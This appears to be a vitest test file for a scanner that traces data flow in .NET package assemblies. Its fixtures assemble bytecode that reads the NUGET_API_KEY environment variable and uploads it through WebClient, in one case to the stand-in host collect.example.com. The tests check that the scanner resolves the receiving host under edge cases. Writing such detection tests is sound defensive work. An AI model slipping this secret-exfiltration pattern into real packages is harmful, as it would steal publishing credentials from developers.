import { describe, expect, it } from 'vitest';
import { method, type InstructionSpec } from '../../kit/cil-assembler/assemble.js';
import { codeAssembly, factsOf, inspectedFiles } from '../rich-package.js';

const client = '[System.Net.WebClient]System.Net.WebClient';
const variable = method('[System.Runtime]System.Environment', 'GetEnvironmentVariable', 'string', [
  'string',
]);
const upload = method(client, 'UploadString', 'string', ['string', 'string'], { instance: true });
const make = method(client, '.ctor', 'void', [], { instance: true });

/** Sends a secret to an address. */
function sends(address: readonly InstructionSpec[]): Uint8Array {
  return codeAssembly([
    ['newobj', make],
    ...address,
    ['ldstr', 'NUGET_API_KEY'],
    ['call', variable],
    ['callvirt', upload],
    ['pop'],
  ]);
}

const hosts = async (bytes: Uint8Array): Promise<string[]> =>
  factsOf(await inspectedFiles({ 'lib/net8.0/Fixture.dll': bytes }), 'flow').map(
    ({ endpoint }) => endpoint?.host ?? 'nowhere',
  );

describe('an address', () => {
  it.each(['[System.Runtime]System.String', '[System.Runtime]System.Uri'])(
    'of a method of %s that says it has no object',
    async (type) => {
      const trouble = sends([['call', method(type, 'ToString', 'string', [])]]);
      expect(await hosts(trouble)).toEqual(['']);
    },
  );

  it('that a format repeats until no text is as long', async () => {
    const text = '[System.Runtime]System.String';
    const address: InstructionSpec[] = [
      ['ldstr', `https://collect.example.com/${'{0}'.repeat(20_000)}`],
      ['ldstr', 'a'.repeat(100_000)],
      ['call', method(text, 'Format', 'string', ['string', 'object'])],
    ];
    expect(await hosts(sends(address))).toEqual(['collect.example.com']);
  });

  it('that is the name of a file', async () => {
    expect(await hosts(sends([['ldstr', 'nuget.config']]))).toEqual(['']);
    expect(await hosts(sends([['ldstr', 'collect.example.com']]))).toEqual(['collect.example.com']);
  });

  it('that joins more than a text can hold', async () => {
    const join = method('[System.Runtime]System.String', 'Join', 'string', ['string', 'string[]']);
    const address: InstructionSpec[] = [
      ['ldstr', 'a'.repeat(100_000)],
      ['ldc.i4', 20_000],
      ['newarr', '[System.Runtime]System.String'],
      ['call', join],
    ];
    expect(await hosts(sends(address))).toEqual(['']);
  });
});
